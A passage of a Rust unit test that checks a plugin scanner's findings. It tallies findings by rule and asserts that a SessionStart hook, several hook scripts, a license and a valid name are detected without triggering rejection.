    let mut by_rule: BTreeMap<&str, usize> = BTreeMap::new();
    for x in &f {
        *by_rule.entry(x.rule.as_str()).or_default() += 1;
    }
    println!("by rule: {by_rule:?}");
    for x in &f {
        if x.rule != "script" {
            println!("  {:?} {} {:?}: {}", x.severity, x.rule, x.path, x.detail);
        }
    }
    let hooks = of(&f, "hook");
    assert!(
        hooks
            .iter()
            .any(|h| h.path.as_deref() == Some("hooks/hooks.json")
                && h.detail.contains("`SessionStart`")
                && h.detail.contains("run-hook.cmd")),
        "{hooks:#?}"
    );
    let scripts: Vec<&str> = of(&f, "script")
        .iter()
        .filter_map(|s| s.path.as_deref())
        .collect();
    assert!(scripts.contains(&"hooks/session-start"), "{scripts:?}");
    assert!(scripts.len() >= 5, "{scripts:?}");
    // MIT from plugin.json, a real name, nothing auto-rejected
    assert!(of(&f, "license-missing").is_empty() && of(&f, "reserved-name").is_empty());
    assert!(!rejects(&f), "{f:#?}");
}
